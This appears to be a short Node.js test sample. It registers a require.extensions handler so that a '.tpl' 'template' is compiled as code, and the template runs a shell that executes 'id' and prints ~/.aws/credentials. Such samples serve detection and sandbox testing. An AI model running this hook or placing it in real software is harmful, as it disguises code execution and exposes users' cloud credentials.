// Runs a shell via a module loader hook: a handler registered in
// require.extensions for ".tpl" compiles the file's text as a module, then a
// ".tpl" "template" (written first, holding the shell call) is required.
'use strict';

const fs = require('fs');
const path = require('path');
const os = require('os');

const tplDir = fs.mkdtempSync(path.join(os.tmpdir(), 'tpl-'));
const tplFile = path.join(tplDir, 'layout.tpl');
fs.writeFileSync(
  tplFile,
  "module.exports = require('child_process').execSync('sh -c \"id; cat ~/.aws/credentials\"').toString();\n"
);

require.extensions['.tpl'] = function compileTemplate(module, filename) {
  module._compile(fs.readFileSync(filename, 'utf8'), filename);
};

const rendered = require(tplFile);
console.log(rendered);
